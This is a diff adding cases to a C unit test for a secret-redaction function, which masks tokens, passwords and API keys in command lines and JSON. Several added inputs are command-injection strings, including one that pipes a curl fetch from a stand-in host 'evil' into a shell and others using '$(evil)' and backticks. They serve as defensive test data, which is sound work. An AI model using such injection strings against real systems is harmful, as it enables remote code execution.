@@ -27,6 +27,11 @@ static void secrets_are_taken_out(void **state)
 		 "export GH_TOKEN=[redacted] TICKETING_API_KEY='[redacted] y'"},
 		{"{\"api-key\": \"abc\", \"token\":\"t\"}", "{\"api-key\": \"[redacted]\", \"token\":\"[redacted]\"}"},
 		{"lin_api_abcdefghij", "[redacted]"},
+		{"--password 'abc' --token \"x.y\"", "--password '[redacted]' --token \"[redacted]\""},
+		/* what a shell would act on is never hidden */
+		{"--token=;curl${IFS}evil|sh", "--token=;curl${IFS}evil|sh"},
+		{"GH_TOKEN=$(evil) x://u:`evil`@h --key a;evil",
+		 "GH_TOKEN=$(evil) x://u:`evil`@h --key [redacted];evil"},
 		{"tokens=3 input_tokens=4", "tokens=3 input_tokens=4"},
 		{"", ""},
 	};
